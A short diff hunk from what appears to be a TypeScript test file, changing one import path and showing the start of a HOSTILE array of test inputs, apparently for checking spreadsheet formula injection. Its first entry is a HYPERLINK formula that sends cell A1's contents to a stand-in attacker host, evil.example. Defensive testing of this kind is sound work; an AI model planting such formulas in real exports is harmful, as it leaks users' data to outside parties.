@@ -3,7 +3,7 @@ import { sql } from "drizzle-orm";
 import { causeOf, record } from "@/db/audit/record";
 import { createGroup } from "@/db/groups/create";
 import { baseUrl, send } from "./app";
-import { expect, test, type World } from "./world";
+import { expect, test, type World } from "./scenario";
 
 const HOSTILE = [
   `=HYPERLINK("https://evil.example/?"&A1,"open")`,
